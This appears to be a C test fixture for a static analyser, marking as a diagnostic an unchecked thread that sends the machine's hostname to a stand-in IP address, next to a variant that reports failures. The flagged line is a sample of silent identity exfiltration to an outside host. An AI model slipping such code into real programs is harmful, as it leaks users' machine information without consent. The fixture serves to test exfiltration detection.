/* A thread tells the maker which host this is: nobody cares whether that worked, or somebody is
 * told that it did not. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8080)};
    int out = socket(AF_INET, SOCK_STREAM, 0);
    peer.sin_addr.s_addr = inet_addr(address);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) ? -1 : out;
}

static void *bad_tell(void *unused) {
    char name[64] = "";
    gethostname(name, sizeof name - 1);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(dial("203.0.113.31"), name, strlen(name), MSG_NOSIGNAL);
    return unused;
}

static void *good_tell(void *unused) {
    char name[64] = "";
    gethostname(name, sizeof name - 1);
    if (send(dial("203.0.113.32"), name, strlen(name), MSG_NOSIGNAL) < 0)
        perror("registration");
    return unused;
}

int start(pthread_t threads[2]) {
    return pthread_create(&threads[0], NULL, bad_tell, NULL) ||
           pthread_create(&threads[1], NULL, good_tell, NULL);
}
